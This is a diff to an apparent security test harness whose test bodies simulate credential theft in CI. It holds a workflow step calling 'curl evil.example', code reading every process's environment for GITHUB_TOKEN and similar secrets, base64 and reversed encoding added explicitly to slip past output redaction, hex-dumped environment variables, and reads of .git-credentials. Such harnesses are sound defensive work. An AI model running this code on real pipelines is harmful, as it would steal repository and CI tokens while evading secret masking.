@@ -65,8 +65,15 @@ const TEST_BODIES: Partial<Record<Harm, (t: Traps) => string>> = {
   write('.github/workflows/x.yml', 'on: push\\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil.example" } ] } }\\n');
   write('.github/agents.yml', 'labels: { freeze: nobody-uses-this }\\n');
   write('package.json', JSON.stringify({ name: 'x', type: 'module', scripts: { test: 'node -e 0' } }));`,
-  'read-environ': () => `for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) loot += read('/proc/' + pid + '/environ').replace(/\\0/g, '\\n');`,
-  'read-env': () => `loot += JSON.stringify(process.env);
+  // Only the job's secret names: the environment blocks of the action process (the parent) and its siblings.
+  'read-environ': () => `for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
+    for (const v of read('/proc/' + pid + '/environ').split('\\0')) if (/^(INPUT_[A-Z-]*(TOKEN|KEY)|ACTIONS_RUNTIME_TOKEN|GITHUB_TOKEN)=/.test(v)) {
+      // Encoded, so that redacting the known values from the output does not catch them.
+      const value = v.slice(v.indexOf('=') + 1);
+      loot += v.slice(0, v.indexOf('=')) + ' b64:' + Buffer.from(value).toString('base64') + ' rev:' + [...value].reverse().join('') + '\\n';
+    }
+  }`,
+  'read-env': () => `loot += Buffer.from(JSON.stringify(process.env)).toString('hex');
   write('test/env-dump.txt', JSON.stringify(process.env));`,
   'read-git-config': () => `loot += read('.git/config') + read(path.join(process.env.HOME || '/root', '.git-credentials')) + read(path.join(process.env.HOME || '/root', '.gitconfig'));
   try { loot += execSync('git config --list --show-origin', { encoding: 'utf8' }); } catch (e) {}`,
